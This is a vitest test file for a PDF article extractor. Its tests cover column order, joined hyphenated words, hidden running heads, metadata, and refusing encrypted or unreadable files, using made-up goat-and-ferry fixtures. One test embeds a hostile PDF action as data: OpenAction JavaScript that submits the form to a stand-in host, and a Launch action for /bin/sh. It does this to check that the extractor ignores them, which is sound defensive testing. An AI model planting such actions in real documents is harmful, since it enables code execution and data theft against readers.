import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { body, extractArticle, extractFile, hidden, ofKind, refusal } from '../support'
import { type PdfText, pdf } from './pdf-maker'
import { fixtures, sourceText } from './source-texts'

const read = (bytes: Uint8Array, fileName = 'paper.pdf') => extractArticle({ bytes, fileName })
const shownOf = (article: Awaited<ReturnType<typeof read>>) =>
  article.blocks.filter((block) => !block.hidden).map(({ kind, text }) => ({ kind, text }))

/**
 * Without what the files do not say: with the font used, LibreOffice writes one vowel sign without its letter; and cells
 * of a narrow table have little between them.
 */
const plain = <Block extends { text?: string | undefined }>(block: Block) => ({
  ...block,
  text: block.text?.replaceAll('\u064f', '').replaceAll(' | ', ' '),
})

/** Lines of a column from the top, as wide as a column of this width. */
const column = (lines: readonly string[], x: number, y = 500): PdfText[] =>
  lines.map((text, index) => ({ text, x, y: y - index * 12 }))

const left = [
  'The ferry to the islands left at',
  'seven in the morning with forty',
  'people and two goats on board of',
  'whom none had bought a ticket.',
]
const right = [
  'Nobody on the quay could tell us',
  'why it had come back at nine, and',
  'the captain said only that a goat',
  'had asked to be taken home again.',
]

describe('a PDF', () => {
  it.each([
    ['harbour', 'one-column'],
    ['harbour', 'two-columns'],
    ['bruecke', 'one-column'],
    ['bruecke', 'two-columns'],
    ['canal', 'one-column'],
    ['canal', 'two-columns'],
  ])('of LibreOffice gives the text of %s in %s and its metadata', async (name, layout) => {
    const { head, blocks } = sourceText(name)
    const article = await extractFile(join(fixtures, 'pdf', `${name}-${layout}.pdf`))
    const shown = shownOf(article)
    const wanted = [{ kind: 'title', text: head.title }, { kind: 'subtitle', text: head.subtitle }, ...blocks]
    expect(shown.map(plain)).toEqual(wanted.map(plain))
    const { title, subtitle, byline, published, language } = article.metadata
    expect([title.value, subtitle.value, byline.value, published.value, language.value?.split('-')[0]]).toEqual([
      head.title,
      head.subtitle,
      head.byline,
      head.published,
      head.language,
    ])
    expect(new Set(hidden(article).map(([reason]) => reason))).toEqual(new Set(['print']))
  })

  it.each(['harbour', 'bruecke', 'canal'])('printed by Chromium gives the text of %s and its address', async (name) => {
    const { head, blocks } = sourceText(name)
    const article = await extractFile(join(fixtures, 'pdf', `${name}-printed.pdf`))
    // A printed table has no cells, so that of it only the words and their order are sure.
    const words = (texts: (string | undefined)[]) => texts.join(' ').replaceAll(' | ', ' ')
    const shown = shownOf(article).map((block) => block.text)
    expect(words(shown)).toBe(words([head.title, head.subtitle, ...blocks.map((block) => block.text)]))
    expect(ofKind(article, 'heading')).toEqual(
      blocks.filter((block) => block.kind === 'heading').map((block) => block.text),
    )
    expect(ofKind(article, 'list-item')).toEqual(
      blocks.filter((block) => block.kind === 'list-item').map((block) => block.text),
    )
    const { title, outlet, published, url } = article.metadata
    expect([title.value, outlet.value, published.value, url.value]).toEqual([
      head.title,
      head.outlet,
      head.published,
      head.url,
    ])
    expect(published.others).toBeUndefined()
  })

  it('is read column by column', async () => {
    const article = await read(
      pdf([[{ text: 'Goats at sea', x: 40, y: 540, size: 22 }, ...column(left, 40), ...column(right, 220)]]),
    )
    expect(body(article)).toEqual([left.join(' '), right.join(' ')])
    expect(article.metadata.title.value).toBe('Goats at sea')
  })

  it('joins words and paragraphs that are divided between lines, columns and pages', async () => {
    const divided = [
      'The council wants to build a light-',
      'house of its own, but the long-term',
      'costs are not known and the harbour-',
    ]
    const article = await read(
      pdf([
        column(divided, 40, 120),
        column(['master has asked for a long-', 'term plan before anything is paid.'], 40, 560),
      ]),
    )
    expect(body(article)).toEqual([
      'The council wants to build a lighthouse of its own, but the long-term costs are not known and the harbourmaster has asked for a long-term plan before anything is paid.',
    ])
  })

  it('hides running heads, feet and page numbers', async () => {
    const page = (number: number, lines: string[]): PdfText[] => [
      { text: 'The Island Courier', x: 40, y: 580, size: 8 },
      ...column(lines, 40),
      { text: `Page ${number} of 3`, x: 180, y: 20, size: 8 },
    ]
    const third = ['It was the third goat this year', 'that had boarded a ship of that', 'company without any luggage.']
    const article = await read(pdf([page(1, left), page(2, right), page(3, third)]))
    expect(body(article)).toEqual([left.join(' '), right.join(' '), third.join(' ')])
    expect(
      hidden(article)
        .map(([, text]) => text)
        .slice(0, 2),
    ).toEqual(['The Island Courier', 'Page 1 of 3'])
  })

  it('is not titled by the name of a file nor dated by the day it was made', async () => {
    const info =
      '/Title (Microsoft Word - draft3.docx) /Author (user) /CreationDate (D:20310502101500Z) /Creator (Writer)'
    const { metadata } = await read(pdf([column(left, 40)], { info }))
    expect([metadata.title.value, metadata.byline.value, metadata.published.value]).toEqual([null, null, null])
    const typeset = await read(pdf([column(left, 40)], { info: info.replace('Writer', 'Adobe InDesign CC') }))
    expect(typeset.metadata.published).toMatchObject({ value: '2031-05-02', confidence: 'unsure' })
  })

  it('says which pages hold no text, and is refused where none does', async () => {
    expect((await read(pdf([column(left, 40), []]))).partial).toBe('pages-without-text')
    expect(await refusal(read(pdf([[], []])))).toBe('import/no-text-layer')
  })

  it('runs and follows nothing of what it carries', async () => {
    const catalog =
      '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://a.example"\\)) >> /AA << /WC << /S /Launch /F (/bin/sh) >> >>'
    const article = await read(pdf([column(left, 40)], { catalog }))
    expect([body(article), article.partial]).toEqual([[left.join(' ')], null])
  })

  it('is refused with the reason where it is encrypted or mangled', async () => {
    const key = `<${'ab'.repeat(32)}>`
    const trailer = `/Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O ${key} /U ${key} >> /ID [<00> <00>]`
    expect(await refusal(read(pdf([column(left, 40)], { trailer })))).toBe('import/encrypted')
    expect(await refusal(read(Buffer.from('%PDF-1.7\nnothing else')))).toBe('import/unreadable')
    expect(await refusal(read(Buffer.from('no PDF at all')))).toBe('import/unreadable')
  })

  it('does not call text scanned whose characters need a table that is not there', async () => {
    const named = Buffer.from(pdf([[], []]).toString('latin1').replace('/WinAnsiEncoding', '/90ms-RKSJ-H   '), 'latin1')
    expect(await refusal(read(named))).toBe('import/unreadable')
  })

  it('is known by its content under any name', async () => {
    expect((await read(pdf([column(left, 40)]), 'paper.txt')).mediaType).toBe('application/pdf')
  })

  it('keeps headings, lists and captions of small print apart', async () => {
    const lines = [
      { text: 'Goats at sea', x: 40, y: 560, size: 22 },
      ...column(left, 40, 520),
      { text: 'What the captain saw', x: 40, y: 452, size: 13 },
      ...column(['\x95 two goats by the funnel', '\x95 one goat in the wheelhouse'], 40, 430),
      { text: 'Photo: Inge Maar', x: 40, y: 380, size: 7 },
    ]
    const article = await read(pdf([lines]))
    expect(ofKind(article, 'heading')).toEqual(['What the captain saw'])
    expect(ofKind(article, 'list-item')).toEqual(['two goats by the funnel', 'one goat in the wheelhouse'])
    expect(ofKind(article, 'caption')).toEqual(['Photo: Inge Maar'])
  })
})
